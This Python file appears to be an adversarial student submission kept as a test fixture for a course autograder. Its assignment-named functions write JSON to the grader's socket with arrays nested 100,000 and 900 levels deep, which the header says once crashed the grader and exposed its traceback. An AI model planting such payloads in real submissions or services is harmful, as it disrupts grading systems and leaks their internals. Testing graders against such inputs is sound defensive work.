# A student's addition to day06.py: messages written straight to the grader's socket that nest
# arrays far deeper than any value of the learner's crosses (the child's own encoder stops at 20
# levels): 100,000 deep, past the parser's stack, and 900 deep, within it but past what the code
# that reads a message can take. Either once crashed the grader, its traceback in the feedback.
import os as _os
import sys as _sys


def get_tools_description(tools):
    _os.write(int(_sys.argv[1]), b'{"op": "tool", "id": 5, "name": "Calculator", "args": [' + b"[" * 100_000 +
              b"]" * 100_000 + b"]}\n")
    return "ATTACK-RAN nest_the_wire"


def build_react_prompt(user_input, tools, steps):
    _os.write(int(_sys.argv[1]), b'{"op": "done", "call": 2, "value": ' + b"[" * 900 + b"]" * 900 + b"}\n")
    return "x"
